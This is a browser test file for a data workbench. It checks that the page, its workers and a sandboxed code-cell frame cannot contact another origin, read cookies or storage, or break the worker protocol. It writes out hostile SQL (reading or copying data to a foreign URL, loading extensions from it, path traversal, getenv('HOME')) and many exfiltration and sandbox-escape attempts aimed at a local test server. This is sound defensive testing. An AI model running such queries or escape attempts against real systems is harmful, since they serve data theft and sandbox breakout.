import {createServer, type Server} from "node:http";
import type {AddressInfo} from "node:net";
import type {Page} from "playwright-core";
import {afterAll, beforeAll, expect, it} from "vitest";
import {visit, type Visit} from "./browser.js";
import {ask, cellSeen, openBench, rows, runCell, said, writeCell} from "./workbench.js";
import {LONG, some} from "../tools/rounds.js";

/* What is hostile, in one session: what comes after it runs well. */

let site: Visit;
let page: Page;
let wrong: string[];
let other: Server;
let foreign: string;
const heard: string[] = [];
let connections = 0;
beforeAll(async () => {
  site = await visit();
  // A server on another port is another origin, and one that would answer anyone.
  other = createServer((request, response) => {
    heard.push(request.url ?? "");
    response
      .writeHead(200, {
        "access-control-allow-origin": "*",
        "access-control-allow-headers": "*",
        "content-type": "text/csv"
      })
      .end("a,b\n1,2\n");
  });
  // What is no request, such as a WebSocket, sends something at least.
  other.on("connection", (socket) => {
    connections += 1;
    socket.once("data", () => heard.push("bytes"));
  });
  await new Promise<void>((listening) => other.listen(0, "127.0.0.1", listening));
  foreign = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  ({page, wrong} = await openBench(site));
});
afterAll(async () => {
  await site.close();
  other.close();
});

/** Asks another origin by every way that code has, in the page or in a worker, and gives those that went through. A text, so that no tool rewrites it. */
const TRIES = `async (address) => {
  const found = [];
  const wait = (start) => new Promise((done) => { try { start(done); } catch { done(); } });
  await fetch(address + "/fetch").then(() => found.push("fetch"), () => {});
  await fetch(address + "/opaque", {mode: "no-cors"}).then(() => found.push("fetch without cors"), () => {});
  await wait((done) => {
    const request = new XMLHttpRequest();
    Object.assign(request, {onload: () => (found.push("XMLHttpRequest"), done()), onerror: done});
    request.open("GET", address + "/xhr");
    request.send();
  });
  await wait((done) => Object.assign(new WebSocket(address.replace("http", "ws") + "/socket"), {onopen: () => (found.push("WebSocket"), done()), onerror: done}));
  await wait((done) => Object.assign(new EventSource(address + "/events"), {onopen: () => (found.push("EventSource"), done()), onerror: done}));
  await import(address + "/module.js").then(() => found.push("import"), () => {});
  if (globalThis.importScripts) try { importScripts(address + "/script.js"); found.push("importScripts"); } catch {}
  if (globalThis.document) await wait((done) => Object.assign(new Image(), {onload: () => (found.push("image"), done()), onerror: done, src: address + "/image"}));
  try { found.push((0, eval)("'eval'")); } catch {}
  return found;
}`;

it("code inside the page and inside each worker reaches no other origin either", {timeout: 120_000}, async () => {
  const workers = page.workers();
  expect(await page.evaluate(`(${TRIES})("${foreign}")`)).toEqual([]);
  expect(workers.length).toBeGreaterThan(0);
  for (const worker of workers) expect(await worker.evaluate(`(${TRIES})("${foreign}")`)).toEqual([]);
  expect(heard).toEqual([]);
});

it("a hostile query reaches no other origin, and says so", {timeout: 240_000}, async () => {
  const hostile = [
    `SELECT * FROM read_csv('${foreign}/query.csv')`,
    `SELECT * FROM '${foreign}/name.csv'`,
    `SELECT * FROM read_text('${foreign}/text')`,
    `SELECT * FROM read_parquet('${foreign}/file.parquet')`,
    `COPY (SELECT * FROM orders) TO '${foreign}/copy.csv'`,
    `ATTACH '${foreign}/database.db' AS d`,
    `EXPORT DATABASE '${foreign}/all'`,
    `INSTALL httpfs FROM '${foreign}'`,
    `LOAD '${foreign}/extension.wasm'`,
    `LOAD httpfs`,
    `SET custom_extension_repository = '${foreign}'`,
    "SET enable_external_access = true",
    "SET allowed_directories = ['/']",
    "SELECT * FROM read_csv('own/../../x.csv')",
    "SELECT * FROM read_csv('/data/orders.csv')",
    "SELECT getenv('HOME')"
  ];
  for (const sql of some(hostile, 5)) {
    await ask(page, sql);
    expect([sql, (await said(page)).length > 20]).toEqual([sql, true]);
  }
  await ask(page, "SELECT 'well' AS a");
  expect(await rows(page)).toEqual([["well"]]);
  expect(heard).toEqual([]);
});

/** Ways that a worker has, or might be thought to have, beyond `TRIES`; gives those that went through. */
const CELL = `const tries = ${TRIES};
const address = "ADDRESS";
const found = [];
const attempt = (name, act) => { try { if (act()) found.push(name); } catch {} };
attempt("sendBeacon", () => navigator.sendBeacon(address + "/beacon", "x"));
attempt("WebTransport", () => { new WebTransport(address.replace("http", "https") + "/transport"); });
attempt("a worker from there", () => { new Worker(address + "/worker.js").onerror = () => {}; });
attempt("RTCPeerConnection", () => RTCPeerConnection);
attempt("an image", () => { new Image().src = address + "/image"; return true; });
attempt("a style sheet", () => document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: address + "/style"})) ?? true);
attempt("a prefetch", () => document.head.append(Object.assign(document.createElement("link"), {rel: "prefetch", href: address + "/prefetch"})) ?? true);
attempt("the frame's address", () => { location.href = address + "/frame"; return location.href.startsWith(address); });
attempt("the page's address", () => { top.location = address + "/top"; return true; });
attempt("a window", () => open(address + "/window"));
attempt("the page", () => parent.document ?? parent.postMessage({forged: true}, "*") ?? true);
attempt("cookies", () => document.cookie);
attempt("storage", () => localStorage ?? sessionStorage);
const indexed = new Promise((done) => { try { Object.assign(indexedDB.open("x"), {onsuccess: () => done(["indexedDB"]), onerror: () => done([])}); } catch { done([]); } });
const cached = Promise.resolve().then(() => caches.open("x")).then(() => ["caches"], () => []);
const own = new Promise((done) => {
  const nested = new Worker(URL.createObjectURL(new Blob(["(" + tries + ")('" + address + "').then(postMessage)"])));
  nested.onmessage = ({data}) => done(data.map((name) => name + " in a worker of its own"));
  nested.onerror = () => done(["a worker of its own broke"]);
});
Promise.all([tries(address), own, indexed, cached]).then((more) => JSON.stringify([...found, ...more.flat()]))`;

it(
  "a hostile cell reaches neither another origin nor the page, and the next cell runs",
  {timeout: 120_000},
  async () => {
    await ask(page, "SELECT 1 AS a");
    // The closed frame compiles text, and that is all: the document that pictures are drawn in is no browser's, and fetches nothing.
    expect(JSON.parse((await runCell(page, CELL.replaceAll("ADDRESS", foreign))).value ?? "null")).toEqual([
      "a style sheet",
      "a prefetch",
      "eval",
      "eval in a worker of its own"
    ]);
    expect([heard, connections]).toEqual([[], 0]);
    // What was asked for and refused is told to the console, and nothing else went wrong.
    expect(wrong.filter((line) => !line.includes(foreign) && !/Content.Security.Policy/i.test(line))).toEqual([]);

    // Answers that a cell makes up, in the words of the frame's own.
    const column = "{name: 'a', kind: 'text', values: new Uint8Array(4), offsets: new Int32Array([0, 9]), valid: null}";
    const forgeries = [
      "'begun'",
      "null",
      "{id: 1, begun: true}",
      "{kind: 'value', notes: [], what: 'x', cut: false, text: {length: 1e9}}",
      "{kind: 'error', notes: [], message: 'x', line: -1}",
      "{kind: 'table', notes: [], rows: 2 ** 40, total: 1, columns: []}",
      `{kind: 'table', notes: [], rows: 1, total: 1, columns: [${column}]}`,
      `{kind: 'table', notes: [], rows: 1, total: 1, columns: [{...${column}, kind: '__proto__'}]}`,
      `{kind: 'table', notes: [], rows: 3, total: 3, columns: [{...${column}, kind: 'number', values: new Float64Array(2)}]}`
    ];
    // Each keeps the processor busy until it is ended; the page reads what was sent until then for seconds.
    const times = LONG ? "true" : "sent++ < 1000";
    for (const forged of some(forgeries, 1)) {
      const flood = `let sent = 0; while (${times}) postMessage(${forged}); while (true);`;
      const {wrong: words} = await runCell(page, flood);
      expect([forged, words]).toEqual([forged, "the cell returned something that no cell returns"]);
    }
    expect((await runCell(page, "result.get('a') + 1")).value).toBe("2");

    // Were code to run in the frame itself, beside the worker, it would not get out either.
    await page.locator(".cell-panel select").selectOption("120");
    await writeCell(page, "while (true) {}");
    await page.keyboard.press("Control+Enter");
    await expect.poll(() => page.workers().length).toBe(2);
    const [frame] = page.frames().slice(1);
    expect(await frame!.evaluate(`(${TRIES})("${foreign}")`)).toEqual(["eval"]);
    const kept = await frame!.evaluate((address) => {
      const found: string[] = [];
      const attempt = (name: string, act: () => unknown) => {
        try {
          if (act()) found.push(name);
        } catch {
          // Refused.
        }
      };
      const link = (rel: string) =>
        document.head.append(Object.assign(document.createElement("link"), {rel, href: `${address}/${rel}`}));
      attempt("the page", () => parent.document);
      attempt("storage", () => localStorage);
      attempt("cookies", () => document.cookie);
      attempt("a window", () => open(`${address}/window`));
      attempt("the page's address", () => {
        top!.location.href = `${address}/top`;
      });
      link("stylesheet");
      link("prefetch");
      parent.postMessage({id: 1, begun: true}, "*");
      return found;
    }, foreign);
    expect(kept).toEqual([]);
    // Chromium connects to where a frame is to go before it asks the policy; it sends nothing. A cell has no address to set.
    await frame!.evaluate((address) => void (location.href = `${address}/frame`), foreign);
    expect((await cellSeen(page)).said).toBe("The cell was ended: its frame was lost.");
    expect((await runCell(page, "result.get('a') + 2")).value).toBe("3");
    expect([heard, new URL(page.url()).pathname, page.context().pages().length]).toEqual([[], "/explore", 1]);
    // Visits are seen.
    await fetch(foreign);
    expect(heard.splice(0).sort()).toEqual(["/", "bytes"]);
  }
);

it("the worker that reads files, held at its work by a table that does not come, reaches no other origin", async () => {
  const reading = page.waitForEvent("worker");
  await page.route("**/courts.parquet", () => undefined);
  const asked = ask(page, "SELECT count(*) FROM courts").catch(() => undefined);
  expect(await (await reading).evaluate(`(${TRIES})("${foreign}")`)).toEqual([]);
  expect(heard).toEqual([]);
  await page.context().close();
  await asked;
});
